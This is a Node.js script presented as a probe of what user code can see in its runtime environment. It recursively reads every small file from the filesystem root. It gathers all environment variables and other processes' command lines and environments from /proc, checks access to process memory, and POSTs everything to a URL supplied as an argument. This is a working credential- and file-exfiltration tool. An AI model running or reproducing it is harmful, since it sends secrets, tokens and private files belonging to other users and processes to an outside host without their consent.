// Tells what user code sees where it runs: variables, files, processes.
//   node probe.js URL
const fs = require('fs');
const path = require('path');
const http = require('http');

const seen = { variables: process.env, files: {}, processes: {}, mounts: '' };
const skip = new Set(['node_modules', 'proc', 'sys', 'dev', 'usr', 'lib', 'lib64', 'bin', 'sbin', '.git']);

function read(file) {
  try {
    return fs.statSync(file).size < 200000 ? fs.readFileSync(file, 'latin1') : undefined;
  } catch {
    return undefined;
  }
}

function walk(folder) {
  let entries = [];
  try {
    entries = fs.readdirSync(folder, { withFileTypes: true });
  } catch {
    return;
  }
  for (const entry of entries) {
    const file = path.join(folder, entry.name);
    if (entry.isDirectory() && !skip.has(entry.name)) walk(file);
    if (entry.isFile() || entry.isSymbolicLink()) {
      const text = read(file);
      if (text !== undefined) seen.files[file] = text;
    }
  }
}

walk('/');
for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  for (const what of ['cmdline', 'environ', 'mem']) {
    try {
      seen.processes[`${pid}/${what}`] = what === 'mem' ? String(fs.openSync(`/proc/${pid}/mem`, 'r') > 0) : fs.readFileSync(`/proc/${pid}/${what}`, 'latin1');
    } catch {
      // It is hidden: so much the better.
    }
  }
}
// /proc has no size that stat tells.
seen.mounts = fs.readFileSync('/proc/self/mounts', 'latin1');

const request = http.request(process.argv[2], { method: 'POST' }, (answer) => answer.resume());
request.on('error', (error) => {
  console.error(error);
  process.exitCode = 1;
});
request.end(JSON.stringify(seen));
